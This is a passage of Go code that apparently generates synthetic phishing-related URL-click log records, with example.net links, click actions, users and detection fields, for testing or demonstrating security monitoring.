			"Url": fmt.Sprintf("https://sso.example.net/reset?u=%d", 40+r.i), "UrlDomain": "sso.example.net",
		}
	},
	"UrlClickEvents": func(r row) map[string]any {
		u := users[r.user()]
		return map[string]any{
			"Timestamp": r.t(0), "Url": fmt.Sprintf("https://login.example.net/verify?id=%d", 100+r.i), "ActionType": []string{"ClickBlocked", "ClickAllowed", "UrlScanInProgress"}[r.i%3],
			"AccountUpn": u.upn, "Workload": []string{"Email", "Teams", "Office"}[r.i%3], "NetworkMessageId": fmt.Sprintf("9c1e2d3f-4a5b-4c6d-8e7f-0a1b2c3d4e%02x", r.i),
			"IPAddress": remoteIPs[r.i%len(remoteIPs)], "ThreatTypes": "Phish", "DetectionMethods": `{"Phish":["URL detonation reputation"]}`, "IsClickedThrough": r.i%3 == 1,
			"UrlChain": fmt.Sprintf(`["https://login.example.net/verify?id=%d"]`, 100+r.i), "ReportId": fmt.Sprintf("uce-%d", r.i),
		}
	},
}
